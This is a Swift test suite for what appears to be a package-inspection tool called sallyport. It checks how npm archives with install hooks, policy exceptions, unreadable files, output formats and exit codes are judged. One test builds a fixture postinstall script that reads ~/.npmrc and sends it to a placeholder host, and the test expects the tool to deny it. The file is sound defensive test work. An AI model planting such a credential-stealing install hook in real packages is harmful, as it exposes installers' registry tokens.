import ArgumentParser
import FoundationEssentials
import SallyportModel
import SallyportPolicy
import SallyportTesting
import Testing

@testable import sallyport

@Suite("Inspection of files")
struct InspectionTests {
    private let folder: ScratchFolder
    private let harmless: String
    private let hooked: String
    private let broken: String

    init() throws {
        folder = try ScratchFolder()
        harmless = try folder.write("left-pad-1.0.0.tgz", Self.package("1.0.0", scripts: "{}"))
        hooked = try folder.write("left-pad-1.0.1.tgz", Self.package("1.0.1", scripts: #"{"postinstall":"node x.js"}"#))
        broken = try folder.write("broken.tgz", "no archive at all")
    }

    @Test("what can't be read as a package is held, and says so")
    func unreadableArchive() throws {
        let file = try FileInspector(policy: .standard, previous: nil).inspect(broken)
        #expect(file.verdict.outcome == .hold)
        #expect(file.verdict.reasons.map(\.code).contains("archive-unreadable"))
        #expect(InspectionText(style: .plain).text(file).contains("not recognised"))
    }

    @Test("a folder and a missing file are errors that name them")
    func unreadableFile() throws {
        let inspector = try FileInspector(policy: .standard, previous: nil)
        for path in [folder.path, folder.path + "/none.tgz"] {
            let error = #expect(throws: FileContent.Unreadable.self) { try inspector.inspect(path) }
            #expect(error?.description.contains("`\(path)`") == true)
        }
        #expect(throws: FileContent.Unreadable.self) {
            try FileInspector(policy: .standard, previous: folder.path)
        }
    }

    @Test("a file that is longer than what is read is refused", arguments: [(9, true), (10, false), (11, false)])
    func fileLimit(bytesMax: Int, isRefused: Bool) throws {
        let path = try folder.write("ten", "0123456789")
        let isRead = (try? FileContent.bytes(path, bytesMax: bytesMax)) != nil
        #expect(isRead == !isRefused)
    }

    @Test("a hook that the release before had not is a change, and holds")
    func previous() throws {
        let file = try FileInspector(policy: .standard, previous: harmless).inspect(hooked)
        #expect(file.verdict.outcome == .hold)
        #expect(file.verdict.reasons.first?.code == "hook-added")
        #expect(file.release?.description == "pkg:npm/left-pad@1.0.1")
        let text = InspectionText(style: .plain).text(file)
        #expect(text.hasPrefix("\(hooked): hold\n"))
        #expect(text.contains("compared with \(harmless)"))
        #expect(text.contains("runs by itself: postinstall: node x.js"))
    }

    @Test("an exception of the policy holds for the release that the manifest names")
    func policyException() throws {
        let policy = try Policy(
            yaml: "version: 1\nrules: { hook-added: { except: [\"pkg:npm/left-pad\"] } }\n",
            file: "policy.yaml"
        )
        #expect(try FileInspector(policy: policy, previous: harmless).inspect(hooked).verdict.outcome == .admit)
    }

    @Test("an npm package with a dummy file of Python's is judged as both", arguments: ["PKG-INFO", "setup.py"])
    func ambiguousKind(dummy: String) throws {
        let steal =
            "require('https').request({host: 'x.example.invalid'})"
            + ".end(require('fs').readFileSync(process.env.HOME + '/.npmrc'));"
        let bytes = TarBuilder()
            .file("package/\(dummy)", "Name: left-pad\nVersion: 1.0.0\n")
            .file(
                "package/package.json",
                #"{"name":"left-pad","version":"1.0.0","scripts":{"postinstall":"node x.js"}}"#
            )
            .file("package/x.js", steal).gzipped()
        let path = try folder.write("left-pad-1.0.0.\(dummy).tgz", Data(bytes))
        let file = try FileInspector(policy: .standard, previous: nil).inspect(path)
        #expect(file.verdict.outcome == .deny)
        #expect(InspectionResults.status([file.verdict.outcome], isAnyUnreadable: false) == 20)
    }

    @Test("JSON is one object on one line, with file, verdict and reasons")
    func json() throws {
        let file = try FileInspector(policy: .standard, previous: harmless).inspect(hooked)
        let line = try InspectionJSON(file, policy: .standard).line()
        #expect(!line.contains("\n"))
        let object = try JSONDecoder().decode(Line.self, from: Data(line.utf8))
        #expect(object.file == hooked)
        #expect(object.verdict == .hold)
        #expect(object.reasons == file.verdict.reasons)
        #expect(object.purl == "pkg:npm/left-pad@1.0.1")
    }

    @Test(
        "files without options are read without the parser, everything else is the parser's",
        arguments: [
            (["inspect", "a.tgz"], ["a.tgz"]), (["inspect", "a.tgz", "b c.whl"], ["a.tgz", "b c.whl"]),
            (["inspect"], nil), (["inspect", ""], nil), (["inspect", "-"], nil), (["inspect", "--help"], nil),
            (["inspect", "a.tgz", "--format", "json"], nil), (["inspect", "--", "a.tgz"], nil),
            (["why", "a.tgz"], nil),
            ([], nil),
        ] as [([String], [String]?)]
    )
    func plainArguments(arguments: [String], files: [String]?) throws {
        let request = InspectionRequest(plain: arguments)
        #expect(request == files.map { InspectionRequest(files: $0) })
        guard let files else { return }
        let parsed = try #require(try SallyportCommand.parseAsRoot(arguments) as? Inspect)
        #expect(parsed.files == files)
        #expect(parsed.request == request)
    }

    @Test("a single file is read without another thread, and its result is delivered once", arguments: [true, false])
    func single(isThere: Bool) async throws {
        let path = isThere ? harmless : folder.path + "/none.tgz"
        var results: [Bool] = []
        try await InspectionQueue(inspector: try FileInspector(policy: .standard, previous: nil)).run([path]) {
            results.append((try? $0.get()) != nil)
        }
        #expect(results == [isThere])
    }

    @Test("results come in the order of the files, whatever is done first")
    func order() async throws {
        let files = (0..<40).map { [harmless, broken, folder.path + "/none-\($0)"][$0 % 3] }
        let inspector = try FileInspector(policy: .standard, previous: nil)
        var order: [String] = []
        try await InspectionQueue(inspector: inspector, width: 3).run(files) { result in
            switch result {
            case .success(let file): order.append(file.file)
            case .failure(let error): order.append(error.description.split(separator: "`").map(String.init).first ?? "")
            }
        }
        #expect(order == files)
    }

    @Test(
        "the exit status: denied over unread over held over admitted",
        arguments: [
            ([Outcome.admit, .admit], false, 0), ([.admit, .hold], false, 10), ([.hold, .deny, .admit], false, 20),
            ([.admit, .hold], true, 1), ([.deny], true, 20), ([], true, 1),
        ] as [([Outcome], Bool, Int32)]
    )
    func status(outcomes: [Outcome], isAnyUnreadable: Bool, expected: Int32) {
        #expect(InspectionResults.status(outcomes, isAnyUnreadable: isAnyUnreadable) == expected)
    }

    @Test("the summary counts in words")
    func summary() {
        let text = InspectionText(style: .plain).summary([.admit, .hold, .admit, .deny], unreadable: 1)
        #expect(text == "5 files: 2 admitted, 1 held, 1 denied, 1 not read")
    }

    private struct Line: Decodable {
        let file: String
        let verdict: Outcome
        let reasons: [Reason]
        let purl: String?
    }

    private static func package(_ version: String, scripts: String) -> Data {
        Data(
            TarBuilder()
                .file("package/package.json", #"{"name":"left-pad","version":"\#(version)","scripts":\#(scripts)}"#)
                .file("package/x.js", "module.exports = 1;\n")
                .gzipped()
        )
    }
}
